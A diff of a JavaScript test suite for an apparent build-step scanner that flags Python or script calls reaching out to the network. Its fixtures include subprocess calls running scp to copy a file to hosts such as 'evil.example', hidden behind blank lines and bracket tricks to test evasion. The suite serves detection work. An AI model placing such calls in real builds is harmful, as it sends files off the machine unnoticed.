@@ -130,16 +130,48 @@ describe("a program that newly reaches out, whoever starts it:", () => {
       "subprocess.run(\n  ['scp', 'a', 'evil.example:']\n)\n",
       "subprocess.run(\n  ['scp', 'a', 'b.example:']\n)\n",
     ],
+    ["with many empty lines", `subprocess.run([${"\n".repeat(30)}'scp', 'a', 'b.example:'])\n`, ""],
+    ["behind a bracket at a line's end", "subprocess.run(f()\n  + ['scp', 'a', 'b.example:'])\n", ""],
+    ["behind a text of brackets", `subprocess.run(["scp", """a\n)]""",\n  "b.example:"])\n`, ""],
   ])("a call of Python %s", async (_, text, before) => {
     const { told, verdict } = await toldOf(...python(text, before));
-    expect(told).toContain("build/step-reaches medium");
+    expect(told).toEqual(expect.arrayContaining([REACHES]));
+    expect(told.filter((each) => each.startsWith("build/step-reaches"))).toHaveLength(1);
     expect(verdict).toBe("fail");
+  });
+
+  test("a call of Python that doesn't end", async () => {
+    const { verdict } = await toldOf(...python(`subprocess.run(\n${"    a,\n".repeat(2000)}`));
+    expect(verdict).toBe("fail");
+  });
+
+  test.each([
+    ["bash tools/a.txt", PIPES],
+    [". tools/a.txt", PIPES],
+    ["./tools/a.txt", `#!/bin/sh\n${PIPES}`],
+    ["node tools/a.txt", FETCHES],
+    ["python3 tools/a.txt", "import requests\n"],
+  ])("whatever it is called: %s", async (command, text) => {
+    const base = {
+      "package.json": manifest(command),
+      "tools/a.txt": text.startsWith("#!") ? "#!/bin/sh\n" : "",
+    };
+    const { verdict } = await toldOf({ "tools/a.txt": text }, base);
+    expect(verdict).toBe("fail");
+    expect((await toldOf({ "tools/a.txt": `${base["tools/a.txt"]}# nothing\n` }, base)).verdict).toBe("pass");
   });
 
   test("calm: a call of Python that a formatter lays out", async () => {
     const [changes, before] = python(
       'subprocess.run(\n    ["scp", "a", "b.example:a"],\n)\n',
       'subprocess.run(["scp", "a", "b.example:a"])\n',
+    );
+    expect((await toldOf(changes, before)).verdict).toBe("pass");
+  });
+
+  test("calm: a call of Python with an apostrophe in a comment", async () => {
+    const [changes, before] = python(
+      "subprocess.run(\n  ['git',  # don't\n   'status'])  # it's all\nprint('scp a b:')\n",
     );
     expect((await toldOf(changes, before)).verdict).toBe("pass");
   });
